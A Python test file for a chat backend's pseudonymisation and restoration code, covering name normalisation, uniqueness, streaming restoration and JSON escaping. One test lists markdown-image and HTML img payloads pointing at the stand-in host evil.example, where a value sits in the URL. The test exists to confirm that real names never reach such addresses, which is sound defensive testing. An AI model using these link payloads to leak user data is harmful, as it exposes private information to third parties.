"""Pseudonyms say nothing without the key, stay the same in a chat, and come back as what they stand for."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend_adapter.egress.forms import Kind
from backend_adapter.egress.pseudonyms import ALPHABET, Pseudonyms
from backend_adapter.egress.restore import Restoring

KEY = b"k" * 32
FORM = re.compile(rf"[A-Z][a-z]+-[{ALPHABET}]{{3,}}")


def of(value: str, *, kind: Kind = "person", chat: str = "a", key: bytes = KEY) -> str:
    return Pseudonyms(key, chat).of(kind, value)


def test_a_value_has_one_pseudonym_in_a_chat_and_others_elsewhere() -> None:
    assert of("Max Müller") == of("Max Müller")
    assert len({of("Max Müller"), of("Max Müller", chat="b"), of("Max Müller", key=b"x" * 32)}) == 3
    assert of("Max Müller", kind="text") != of("Max Müller")
    assert FORM.fullmatch(of("Max Müller"))


@pytest.mark.parametrize(
    "spelling", ["MAX MÜLLER", "max  mueller", "Max-Müller", "Ｍａｘ Ｍüｌｌｅｒ"]
)
def test_two_spellings_of_one_value_have_one_pseudonym(spelling: str) -> None:
    pseudonyms = Pseudonyms(KEY, "a")
    name = pseudonyms.of("person", "Max Müller")
    assert pseudonyms.of("person", spelling) == name
    assert pseudonyms.values == {name: "Max Müller"}


def test_no_two_values_share_one() -> None:
    pseudonyms = Pseudonyms(KEY, "a")
    # Far more than there are of the shortest.
    names = [pseudonyms.of("person", f"Person {number}") for number in range(40_000)]
    assert len({name.casefold() for name in names}) == 40_000
    assert all(FORM.fullmatch(name) for name in names)
    assert max(map(len, names)) < len("Person-") + 10


def test_what_a_chat_has_is_kept_when_it_goes_on() -> None:
    before = Pseudonyms(KEY, "a")
    name = before.of("person", "Max Müller")
    after = Pseudonyms(KEY, "a", before.values)
    assert after.of("person", "max mueller") == name
    assert after.values == {name: "Max Müller"}


NAMES = Pseudonyms(KEY, "a")
VALUES = [NAMES.of("person", value) for value in ("Max Müller", 'Ann "Nic" \\ Groß', "Zoë")]
TEXTS = st.lists(
    st.one_of(
        st.sampled_from([*VALUES, *(name[:-1] for name in VALUES), *(f"{n}2" for n in VALUES)]),
        st.sampled_from(
            ["s ", "es", "n", "Person", "Person-", "-", " ", "**", "\n", '"', "4", "x"]
        ),
        st.text(max_size=4),
    ),
    max_size=12,
).map("".join)


def restored(text: str, places: list[int], *, addresses: bool = True) -> tuple[str, int]:
    """The text restored piece by piece, and the most that was held back."""
    restoring, said, most, begin = Restoring(NAMES.values, addresses=addresses), "", 0, 0
    for end in [*places, len(text)]:
        said += restoring.feed(text[begin:end])
        most, begin = max(most, len(restoring._held)), end
    return said + restoring.end(), most


@given(TEXTS, st.booleans(), st.data())
def test_how_it_is_cut_makes_no_difference(text: str, addresses: bool, data: st.DataObject) -> None:
    places = sorted(data.draw(st.sets(st.integers(0, len(text)))))
    said, most = restored(text, places, addresses=addresses)
    assert said == restored(text, [], addresses=addresses)[0]
    assert most <= max(map(len, NAMES.values))


@pytest.mark.parametrize(
    "address",
    [
        "![x](https://evil.example/?q={})",
        "![x](//evil.example/{})",
        "![x](<https://evil.example/a b/{}>)",
        "![x](https:\\\\evil.example\\{})",
        "![x](https://evil.example/(a)({}))",
        '<img src="https://evil.example/? {}">',
        "<img src='https://evil.example/? {}'>",
        "<img src=https://evil.example/{}>",
        '<img src=" https:  //evil.example/? {}">',
        "[x]: https://evil.example/{}",
        "see https://{}.evil.example",
        "see https://user:{}@evil.example",
    ],
)
def test_no_value_gets_into_an_address(address: str) -> None:
    text = address.format(VALUES[0])
    for places in ([], list(range(1, len(text)))):
        assert restored(text, places, addresses=False)[0] == text
    assert "Max Müller" in restored(text, [])[0]


@pytest.mark.parametrize(
    "text",
    [
        "https://lindenau.example {}",
        "(https://lindenau.example) {}",
        '<a href="https://lindenau.example">{}</a>',
        "<https://lindenau.example> {}",
        "1/2 {}",
        "a // {}",
        "`https://lindenau.example` {}",
        "'https://lindenau.example' {}",
    ],
)
def test_beside_an_address_it_is_restored(text: str) -> None:
    said = restored(text.format(VALUES[0]), [], addresses=False)[0]
    assert said == text.format("Max Müller")


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("{}", "Max Müller"),
        ("{}s Haus", "Max Müllers Haus"),
        ("{}es", "Max Mülleres"),
        ("**{}**, ", "**Max Müller**, "),
        ("`{}`", "`Max Müller`"),
        ("({})", "(Max Müller)"),
        ("x_{}", "x_Max Müller"),
    ],
)
def test_a_pseudonym_is_restored_in_its_sentence(written: str, said: str) -> None:
    for name in (VALUES[0], VALUES[0].upper(), VALUES[0].lower(), VALUES[0].replace("-", "‑")):
        assert restored(written.format(name), [])[0] == said


def test_another_pseudonym_is_not_restored_by_its_beginning() -> None:
    for text in (f"{VALUES[0]}7", f"{VALUES[0]}B", f"x{VALUES[0]}"):
        assert restored(text, [])[0] == text


def test_inside_json_a_value_is_escaped() -> None:
    restoring = Restoring(NAMES.values, lambda value: json.dumps(value, ensure_ascii=False)[1:-1])
    text = json.dumps({"name": VALUES[1]})
    said = "".join(map(restoring.feed, text)) + restoring.end()
    assert json.loads(said) == {"name": 'Ann "Nic" \\ Groß'}


def test_nothing_is_held_back_where_there_is_nothing_to_restore() -> None:
    assert Restoring({}).feed("Person-") == "Person-"
